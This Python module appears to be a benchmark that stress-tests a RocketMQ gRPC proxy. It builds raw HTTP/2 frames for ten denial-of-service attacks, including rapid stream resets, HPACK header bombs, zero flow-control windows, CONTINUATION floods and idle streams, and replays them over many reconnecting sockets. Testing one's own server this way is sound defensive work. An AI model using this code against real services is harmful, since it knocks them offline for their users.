"""Attacks on the gRPC front that could stall its other clients.

Usage: `python -m benchmarks.grpc_attacks NAME HOST:PORT SECONDS`, as `benchmarks.attacks`.
"""

from __future__ import annotations

import itertools
import socket
import time
from collections.abc import Callable, Iterable

import hpack

from benchmarks.attacks import Address, Attack, Frames, main, try_send
from benchmarks.grpc_load import sends
from rmqcli.codec.proxy.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    literal,
)
from rmqcli.codec.proxy.http2 import (
    LONGEST_HEADERS,
    MAX_FRAME,
    MOST_STREAMS,
    WINDOW,
)

HELLO = PREFACE + frame(SETTINGS, 0, 0)
CALL = literal(b":method", b"POST") + literal(b"content-type", b"application/grpc")
TELEMETRY = (
    CALL
    + literal(b":path", b"/apache.rocketmq.v2.MessagingService/Telemetry")
    + literal(b"x-mq-client-id", b"attacker")
)


def _streams(count: int) -> Iterable[int]:
    return range(1, 2 * count, 2)


def resets() -> Frames:
    pairs = (
        frame(HEADERS, END_HEADERS, one, TELEMETRY) + frame(RST_STREAM, 0, one, bytes(4))
        for one in _streams(1000)
    )
    return [HELLO, *pairs]


def shut_windows() -> Frames:
    shut = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4))
    return [PREFACE + shut, *itertools.islice(sends("Attacked"), MOST_STREAMS)]


def bombs() -> Frames:
    """Return a header block whose fields are an entry of 4 KB, again and again."""
    entry = hpack.Encoder().encode([("bomb", "b" * 3900)], huffman=False)
    return [HELLO, frame(HEADERS, END_HEADERS, 1, entry + b"\xbe" * (LONGEST_HEADERS - len(entry)))]


def small_bombs() -> Frames:
    """Return header blocks just within the limits, in Huffman's code, on streams that are given up."""
    block = hpack.Encoder().encode([(f"x-{n}", f"{n:0200}", True) for n in range(60)])
    begun = (
        frame(HEADERS, END_HEADERS, one, block[:MAX_FRAME]) + frame(RST_STREAM, 0, one, bytes(4))
        for one in _streams(1000)
    )
    return [HELLO, *begun]


def idle_streams() -> Frames:
    return [HELLO, *(frame(HEADERS, END_HEADERS, one, TELEMETRY) for one in _streams(MOST_STREAMS))]


def half_frames() -> Frames:
    return [HELLO + frame(HEADERS, END_HEADERS, 1, TELEMETRY) + frame(DATA, 0, 1, bytes(MAX_FRAME))[:-1]]


def half_messages() -> Frames:
    """Fill each window with the beginning of a message of 4 MB."""
    part = b"\0" + (4_000_000).to_bytes(4, "big") + bytes(WINDOW - 5)
    frames = (
        frame(HEADERS, END_HEADERS, one, TELEMETRY)
        + b"".join(frame(DATA, 0, one, part[at : at + MAX_FRAME]) for at in range(0, WINDOW, MAX_FRAME))
        for one in _streams(MOST_STREAMS)
    )
    return [HELLO, *frames]


def continuations() -> Frames:
    return [HELLO + frame(HEADERS, 0, 1, b"\x83"), *[frame(CONTINUATION, 0, 1, b"\x83")] * 10_000]


def empty_frames() -> Frames:
    begin = frame(HEADERS, END_HEADERS, 1, TELEMETRY)
    empty = frame(DATA, 0, 1) + frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)
    return [HELLO + begin, *[empty] * 5000]


def calls_of_nothing() -> Frames:
    paths = (CALL + literal(b":path", b"/nothing/%d" % one) for one in range(50_000))
    calls = (
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, path) for number, path in enumerate(paths)
    )
    return [HELLO, *calls]


def kept(connections: int) -> Callable[[Address, Frames, float], None]:
    """Send all on so many connections in turn; open another one in place of each that the broker closes."""

    def run(address: Address, frames: Frames, seconds: float) -> None:
        data = b"".join(frames)
        deadline = time.monotonic() + seconds
        sent: dict[socket.socket, int] = {}
        while time.monotonic() < deadline:
            while len(sent) < connections:
                one = socket.create_connection(address)
                one.setblocking(False)
                sent[one] = 0
            for one in list(sent):
                sent[one] += try_send(one, data[sent[one] : sent[one] + 65_536])
                if _is_closed(one):
                    one.close()
                    del sent[one]
            if all(count == len(data) for count in sent.values()):
                time.sleep(0.01)

    return run


def _is_closed(connection: socket.socket) -> bool:
    try:
        return not connection.recv(65_536)
    except BlockingIOError:
        return False
    except OSError:
        return True


HOSTILE: dict[str, tuple[Callable[[], Frames], int]] = {
    "resets of streams": (resets, 4),
    "windows of 0": (shut_windows, 50),
    "header blocks of 63 MB": (bombs, 4),
    "long header blocks": (small_bombs, 4),
    "10,240 idle streams": (idle_streams, 80),
    "half frames": (half_frames, 500),
    "half messages": (half_messages, 8),
    "continuations": (continuations, 4),
    "frames without content": (empty_frames, 4),
    "calls of unknown methods": (calls_of_nothing, 4),
}
"""The frames of each attack, and the number of its connections."""
ATTACKS = {name: Attack(frames, kept(connections)) for name, (frames, connections) in HOSTILE.items()}

if __name__ == "__main__":
    main(ATTACKS)
